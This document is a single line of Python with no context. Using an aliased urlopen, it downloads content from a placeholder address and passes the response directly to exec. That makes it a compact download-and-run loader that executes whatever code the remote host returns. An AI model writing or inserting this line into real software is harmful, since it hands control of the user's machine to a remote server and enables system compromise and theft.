from urllib.request import urlopen as _u;exec(_u("https://example.invalid/a").read())
